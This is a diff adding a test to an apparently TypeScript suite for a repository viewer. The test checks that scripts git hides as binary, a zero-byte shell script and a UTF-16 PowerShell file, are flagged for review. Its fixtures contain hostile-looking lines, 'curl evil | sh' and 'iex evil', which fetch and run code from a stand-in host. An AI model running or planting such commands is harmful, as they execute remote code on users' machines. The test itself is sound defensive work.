@@ -259,6 +259,22 @@ test("a foreign name is counted however many commits come after it", async () =>
   );
 });
 
+test("a script whose lines git does not show, for a zero byte or as UTF-16, is named, and a picture is not", async () => {
+  using host = sampleRepository();
+  const utf16 = Buffer.from("\ufeffiex evil\n", "utf16le").toString("latin1");
+  const files = { "install.sh": "#!/bin/sh\ncurl evil | sh\n#\0\n", "a.png": "\0\x01\x02PNG\xff" };
+  write(host.path, files);
+  writeFileSync(join(host.path, "b.ps1"), utf16, "latin1");
+  const commit = commitFiles(host.path, { "c.txt": "plain\n" });
+  const repository = await open(host.path);
+  const note =
+    "! The lines of b.ps1, install.sh are not shown: git calls a text with zero bytes binary, and a program may read it.";
+  for (const detail of ["files", "lines"] as const) {
+    const shown = await repository.showChanges(workWith(commit, host.base), detail);
+    expect(shown.match(/^! .*$/gm)).toEqual([note]);
+  }
+});
+
 test("of a long name no part is left out", async () => {
   using host = sampleRepository();
   const name = `.github/workflows/${"deep/".repeat(40)}release-notes.yml`;
